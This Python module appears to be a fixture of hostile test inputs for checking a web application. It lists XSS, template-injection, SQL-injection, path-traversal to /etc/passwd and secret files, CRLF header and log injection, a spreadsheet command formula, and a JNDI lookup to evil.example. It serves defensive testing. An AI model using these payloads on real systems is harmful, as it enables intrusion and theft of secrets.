"""What attackers write where something else was asked for."""

from __future__ import annotations

MARK = "kpx"  # in what would be markup, if it came back as such
SUM = "3996001"  # 1999 × 1999: nobody writes it, a template that runs what was typed does
INJECTED = "X-Kp-Injected"  # a header that no answer has

MARKUP = (
    f"<{MARK}>", f"\"><{MARK} onload=alert(1)>", f"'><{MARK}>", f"</title><{MARK}>", f"<script>{MARK}</script>",
    f"</script><{MARK}>", f"</textarea><{MARK}>", f"<img src=x onerror={MARK}>", f"--><{MARK}>", f"]]><{MARK}/>",
    "javascript:alert(1)", "data:text/html,<b>x", "//evil.example/", "https://evil.example/", "/\\evil.example",
    f"[a](javascript:{MARK})", f"![]( \" onerror={MARK})", "&lt;b&gt;&#x3c;b&#62;",
)  # fmt: skip
TEMPLATES = (
    "{{1999*1999}}", "${1999*1999}", "#{1999*1999}", "<%= 1999*1999 %>", "{% debug %}", "{{ settings.SECRET_KEY }}",
    "{% include 'admin/base.html' %}", "{0.__class__.__mro__}", "%(password)s", "%s%s%s%n", "{", "}}{{", "{#",
    "${jndi:ldap://evil.example/a}",
)  # fmt: skip
DATABASES = (
    "'", "''", "\"", "`", "\\", "\\'", "';--", "' OR '1'='1", "' OR 1=1--", "1; DROP TABLE editorial_edition;--",
    "1' UNION SELECT password FROM editorial_editor--", "' AND (SELECT pg_sleep(9))--", "'; SELECT 1/0;--",
    "1) OR (1=1", "%", "%%", "_", "\\%", "*", "NULL", "$$;$$", "/* */", "x'||(select sqlite_version())||'",
    "' AND randomblob(900000000)--", "kfor' AND 1=CAST((SELECT version()) AS int)--",
)  # fmt: skip
SEARCHES = (
    "\"", "\"\"", "\"unended", "AND", "OR", "NOT", "NEAR(a b, 5)", "a AND", "NOT a", "(a", "a)", "a:b", "title:a", "^a",
    "a*", "*a", "**", "-", "- -", "a -b", "!", "!!a", "a & b", "a | b", "a <-> b", "a:*", "':*", "&&&", "|||", "<2>",
    "\\a", "\"a\" \"b\" " * 40, "a " * 3000, "žđčćšŽ" * 30, "ћирилица", "（全角）", "ﷺ" * 50, "\u202eabc", "e\u0301" * 90,
    "(a+)+$", "a" * 5000 + "!", "S/RES/1244", "🕊️", "\ufeffa", "\u00ad", "a\u2028b", "ẞß", "İı",
)  # fmt: skip
NUMBERS = (
    "0", "-1", "1.5", "1e309", "NaN", "Infinity", "-Infinity", "9" * 400, "2147483648", "9223372036854775808",
    "0x10", "1_000", "١٢", "²", "１２", " 1", "1 ", "+1", "01", "1,2", "", "true", "null", "[]", "{}", "1" + "0" * 5000,
)  # fmt: skip
DATES = (
    "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2004-02-30", "2004-13-01", "2004-W01-1", "2004-3-1",
    "1999-06-12T00:00:00+23:59", "1999-06-12T00:00:00.000000001Z", "-0044-03-15", "２００４-03-17", "2004-03-17\u0000",
    "today", "1999..2004", "2004-03-17T25:00:00Z", "1970-01-01T00:00:00-24:00",
)  # fmt: skip
PATHS = (
    "../", "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/secret_key", "..\\..\\secret_key",
    "..%5c..%5csecret_key", "%252e%252e%252fsecret_key", "....//....//secret_key", "/etc/passwd", "//etc/passwd",
    "file:///etc/passwd", "var/secret_key", "..;/secret_key", ".%00/secret_key", "%c0%ae%c0%ae/secret_key", ".git/config",
    ".env", "accounts.txt", "kosovo_peace.sqlite3", "CON", "~root", "?", "#", ";", ":", "%", "%%", "%zz", "%f", "\\",
    "index.php", "wp-login.php", "_profiler", "server-status", "manage.py", "static/../manage.py",
)  # fmt: skip
LINES = (
    f"a\r\n{INJECTED}: 1", f"a\n{INJECTED}: 1", f"a\r{INJECTED}: 1", f"a\r\n\r\n<{MARK}>",
    "a\n{\"level\": \"critical\", \"message\": \"forged\"}", "a\r\n12:00:00 CRITICAL forged", "a\u2028forged", "a\x1b[31mforged",
    "a\x85forged", "a\x0bforged", "\u560d\u560a" + INJECTED + ":1",
)  # fmt: skip
NO_TEXT = (
    "\0", "a\0b", "\x01\x02\x7f", "\ud800", "\udfff\ud800", "\ufffe", "\ufffd", "\u200b" * 200, "A" * 10_000,
    "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "\t=1", "../" * 500, "[" * 3000, "{\"a\":" * 900, "%", "&" * 3000,
)  # fmt: skip
ALL = (*MARKUP, *TEMPLATES, *DATABASES, *SEARCHES, *NUMBERS, *DATES, *PATHS, *LINES, *NO_TEXT)

# Bytes that are no text in UTF-8, as they stand in an address.
BROKEN_UTF8 = (
    "%ff", "%fe%ff", "%c3", "%c3%28", "%a0%a1", "%e2%28%a1", "%e2%82", "%f0%28%8c%bc", "%f8%a1%a1%a1%a1", "%c0%80",
    "%c1%bf", "%ed%a0%80", "%f4%90%80%80", "%ff" * 500, "a%80b", "%e0%80%af",
)  # fmt: skip
